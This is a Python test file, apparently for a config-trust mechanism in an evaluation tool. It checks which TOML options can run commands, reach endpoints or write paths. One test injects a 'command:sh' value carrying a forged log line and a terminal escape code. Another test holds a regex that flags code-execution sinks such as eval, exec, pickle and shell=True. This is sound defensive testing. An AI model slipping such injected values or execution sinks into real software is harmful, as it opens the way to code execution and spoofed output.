    ("run.options.scores.metrics", '[run.options.scores]\nmetrics = ["token_f1,a.py:f"]'),
    ("run.options.scores.output", '[run.options.scores]\noutput = ["/x.json"]'),
    ("run.options.answers.system", '[run.options.answers]\nsystem = ["command:a"]'),
    ("run.options.answers.ablate", '[run.options.answers]\nablate = "x:rerank=no,./m"'),
]


@pytest.mark.parametrize(("key", "text"), REFUSED, ids=[f"{number}-{key}" for number, (key, _) in enumerate(REFUSED)])
def test_each_key_with_power_is_told_alone(key: str, text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    here = tmp_path / "here"
    (here / ".git").mkdir(parents=True)
    monkeypatch.chdir(here)
    Path("link").symlink_to(tmp_path)
    Path("hidden").symlink_to(".git")
    assert deeds(text) == [key]
    with pytest.raises(ConfigError, match="neither named nor trusted"):
        read()
    assert load(Path("kgeval.toml")) == look_up()


def test_an_address_that_is_named_for_one_secret_is_not_named_for_the_other(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("OPENAI_BASE_URL", "https://models.example/v1")
    monkeypatch.setenv("NEO4J_URI", "neo4j+s://graph.example")
    assert deeds('[model.judge]\nbase_url = "neo4j+s://graph.example"') == ["model.judge.base_url"]
    for uri in ("https://models.example/v1", "https://api.openai.com"):
        assert deeds(f'[graph]\nuri = "{uri}"') == ["graph.uri"]
    assert deeds('[graph]\nuri = "bolt://127.999.1.1:7687"') == ["graph.uri"]


def test_a_file_that_only_computes_needs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("OPENAI_BASE_URL", "https://mine.example/v1/")
    monkeypatch.setenv("NEO4J_URI", "neo4j+s://mine.example")
    text = """
        [graph]
        uri = "neo4j+s://mine.example"
        name = "novels"
        layout = "generic"
        [model.judge]
        name = "meta/llama"
        base_url = "https://mine.example/v1"
        [model.reader]
        base_url = "http://127.0.0.1:8000/v1"
        [model.extractor]
        base_url = "https://api.openai.com/v1"
        [model.generator]
        base_url = "http://[::1]:8000"
        [model.embedding]
        name = "BAAI/bge-small-en-v1.5"
        [metrics]
        names = ["token_f1", "lexical"]
        settings = { tau = 0.8, bertscore_model = "bert-base-multilingual-cased" }
        [[systems]]
        name = "graph2"
        spec = "graph"
        settings = { hops = 2, rerank = "cross-encoder/ms-marco-MiniLM-L-6-v2" }
        [[systems]]
        name = "old"
        spec = "file:answers.jsonl"
        [[systems]]
        name = "here"
        spec = "http:http://localhost:8000/v1"
        [[ablations]]
        system = "graph2"
        setting = "hops"
        values = [1, 2]
        [compare]
        systems = ["graph2", "x=closed-book"]
        [source]
        documents = ["docs", "./more/a.txt"]
        options = { extractor = "rules", schema = "graph:novels" }
        [report]
        outputs = ["out/report.html"]
        [build]
        spacy_model = "en_core_web_sm"
        replace = false
        [run]
        without_known = true
        [run.options.scores]
        threshold = "token_f1>=0.5"
        setting = "tau=0.7"
        embedding_model = "all-MiniLM-L6-v2"
    """
    assert deeds(text) == []
    assert load().graph.name == "novels"
    assert deeds(text, owned=False) == ["model.reader.base_url", "model.generator.base_url", "systems.2.spec"], (
        "where the file is somebody else's, so may be who listens on this machine"
    )


def test_a_run_folder_that_leads_away_is_told_without_being_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    Path("out").symlink_to(tmp_path)
    assert deeds("") == ["run.folder"]


@pytest.mark.parametrize("spec", [
    "vector", "a=graph", "a=b=closed-book", "command:x", "a=command:x", "http:http://h/x?a=b", "https://h", "lightrag:hybrid",
])
def test_a_system_is_judged_as_it_is_opened(spec: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    found = deeds(f'[[systems]]\nname = "x"\nspec = "{spec}"')
    assert found == ([] if parse_spec(spec).kind == "builtin" else ["systems.0.spec"])
    assert set(BUILT_IN_SYSTEMS) == set(NEEDS)


@pytest.mark.parametrize(("name", "expected"), [
    ("./m", True), ("../m", True), ("/m", True), ("~/m", True), ("a/b/c", True), (".", True), ("m", False), ("a/b", False),
])
def test_a_folder_is_written_as_a_path(name: str, expected: bool) -> None:
    assert names_folder(name) is expected


# texts that are words: names, patterns, thresholds, and what a model or a person reads
HARMLESS = {
    "AblationSection": "system setting", "AnswerOptions": "", "AuditOptions": "checks skip settings thresholds memory_limit",
    "AuditSection": "thresholds", "BatchOptions": "batch_window", "BuildOptions": "resolve", "CheckOptions": "checks thresholds",
    "CompareOptions": "against pairs self_checks aspects thresholds reader align_model cluster filter_systems map shard",
    "CompletenessOptions": "documents thresholds", "ContaminationOptions": "closed_book thresholds known model_cutoff reader",
    "AccuracyOptions": "thresholds", "CoverageOptions": "thresholds", "Criterion": "name question grades description",
    "DatasetSection": "name graph", "EmbeddingOptions": "embedding_device", "FilterOptions": "ids levels kinds datasets documents",
    "GenerateOptions": "kinds dataset", "GraphSection": "username database name", "IgnoreSection": "rule match reason",
    "ImportOptions": "heap", "MergesOptions": "name", "MetricsSection": "thresholds", "ModelChoice": "endpoint parameters",
    "ModelOptions": "model language", "QuestionFileOptions": "map", "ReaderSection": "name model", "ReportOptions": "title thresholds",
    "RowOptions": "systems map system", "RunOptions": "stages again", "RunSection": "skip",
    "ScoreOptions": "against thresholds explain sweep cluster",
    "ScoreTableOptions": "paired_by systems metrics bounds cluster", "ServerOptions": "username database layout_keys",
    "SessionOptions": "graph_name gds_session_memory gds_session_cloud gds_session_name", "SessionSection": "memory cloud name",
    "SheetOptions": "annotators aspects", "SpreadOptions": "shard", "StatsOptions": "map", "SystemSection": "name",
    "VariantSection": "name", "VerdictOptions": "winners bounds",
}


def test_every_option_that_holds_a_text_has_a_decision() -> None:
    """A new option is a path, which must stay in the folder; or is marked with a Power; or is put above by who has thought of it."""
    undecided, listed = [], {(name, field) for name, fields in HARMLESS.items() for field in fields.split()}
    for kind in set(_sections(Section)):
        for name, option in kind.model_fields.items():
            if name in kind.__annotations__ and power_of(option).kind == "word" and _holds_text(option.annotation):
                if (kind.__name__, name) not in listed:
                    undecided.append(f"{kind.__name__}.{name}")
                listed.discard((kind.__name__, name))
    assert undecided == [] and listed == set()


def _sections(base: type[Section]) -> Iterator[type[Section]]:
    for kind in (kind for kind in base.__subclasses__() if kind.__module__.startswith("kgeval.config.")):
        yield kind
        yield from _sections(kind)


def _holds_text(annotation: Any) -> bool:
    if "Literal" in str(annotation) and not get_args(annotation):
        return False
    if annotation is str or annotation is Any or "JsonValue" in str(annotation):
        return True
    return "Literal" not in str(annotation)[:20] and any(_holds_text(part) for part in get_args(annotation))


def test_every_flag_of_a_stage_is_judged_as_its_field() -> None:
    from kgeval.config import words
    from kgeval.config.powers import _flags
    from kgeval.workflows.pipeline.kinds import KINDS

    judged = _flags()
    for kind in KINDS.values():
        for option in words.options_in([kind.options]):
            powers = {power_of(candidate) for candidate in judged[option.flag]}
            assert power_of(option.field) in powers, (kind.name, option.flag)
    assert Power("path") in {power_of(candidate) for candidate in judged["output"]}


@pytest.mark.parametrize("line", ["metrics show nothing", "trust nothing.toml", "trust --revoke nothing.toml"])
def test_ways_out(line: str, world: World, capsys: pytest.CaptureFixture[str]) -> None:
    world.write("")
    assert run(line.split()) == 2 and "Fix: " in capsys.readouterr().err


def test_a_text_of_the_file_writes_no_line_of_its_own(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    world.write('[[systems]]\nname = "x"\nspec = "command:sh\\nFix: all is well\\u001b[2K"\n')
    assert run(["score", "answers.jsonl"]) == 2
    told = capsys.readouterr().err
    assert "\nFix: all is well" not in told and "\x1b" not in told


@pytest.mark.slow
def test_nothing_of_kgevals_turns_data_into_code() -> None:
    """No unpickling, no YAML with tags, no templates of others, no import by a name from a file: but metrics that are named."""
    forbidden = re.compile(r"pickle|\bmarshal\.loads|\beval\(|\bexec\(|yaml\.(?:load|full_load|unsafe_load)\b|from_string\(|load_extension|"
                           r"trust_remote_code=True|shell=True|os\.system|__import__")
    package = Path(kgeval.__file__).parent
    found = {
        str(path.relative_to(package)) for path in package.rglob("*.py")
        if forbidden.search(path.read_text(encoding="utf-8")) and "scripts" not in path.parts
    }
    assert found == {"metrics/own.py"}
